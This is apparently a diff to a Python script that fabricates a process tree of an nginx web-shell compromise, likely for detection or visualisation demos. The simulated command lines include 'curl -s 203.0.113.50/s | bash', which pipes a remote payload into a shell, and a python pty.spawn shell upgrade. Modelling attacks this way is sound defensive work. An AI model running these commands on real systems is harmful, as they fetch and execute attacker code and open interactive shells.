@@ -50,7 +50,6 @@ SECOND_NS = 1_000_000_000
 MILLISECOND_NS = 1_000_000
 WWW_DATA, ALICE = 33, 1000
 PTS_0 = 136 << 20
-DROPPED = "/tmp/s"  # noqa: S108 - in a story, not on this disk
 QUESTION = "nginx → bash"
 WIDTH = 112
 FONT_FROM_ELSEWHERE = re.compile(r"\s*@font-face \{.*?\n    \}", re.DOTALL)
@@ -95,22 +94,22 @@ def pause(s: Synthetic, milliseconds: int) -> None:
 
 
 def web_shell(s: Synthetic, nginx: Process) -> None:
-    command = f"curl http://203.0.113.50/s -o {DROPPED}; bash {DROPPED}"
-    bash = s.spawn(nginx, "/usr/bin/bash", ("bash", "-c", command), pid=9010)
+    bash = s.spawn(nginx, "/usr/bin/bash", ("bash", "-c", "curl -s 203.0.113.50/s | bash"), pid=9010)
     pause(s, 11)
-    curl = s.spawn(bash, "/usr/bin/curl", ("curl", "http://203.0.113.50/s", "-o", DROPPED), pid=9012)
+    curl = s.spawn(bash, "/usr/bin/curl", ("curl", "-s", "203.0.113.50/s"), pid=9012)
+    stage2 = s.spawn(bash, "/usr/bin/bash", ("bash",), pid=9013)
     pause(s, 172)
     s.exit(curl)
-    stage2 = s.spawn(bash, "/usr/bin/bash", ("bash", DROPPED), pid=9013)
     pause(s, 6)
     identity = s.spawn(stage2, "/usr/bin/id", ("id",), pid=9014)
     pause(s, 2)
     s.exit(identity)
     python = s.fork(stage2, pid=9015)
-    code = ("python3", "-c", "import pty; pty.spawn('/bin/sh')")
+    code = ("python3", "-c", "import pty;pty.spawn('sh')")
     s.exec(python, "/usr/bin/python3.11", code, filename="/usr/bin/python3")
     pause(s, 23)
-    s.spawn(python, "/usr/bin/dash", ("/bin/sh",), pid=9016, tty=PTS_0 + 1)
+    sh = s.fork(python, pid=9016, tty=PTS_0 + 1)
+    s.exec(sh, "/usr/bin/dash", ("sh",), filename="/usr/bin/sh")
     pause(s, 2310)
 
 
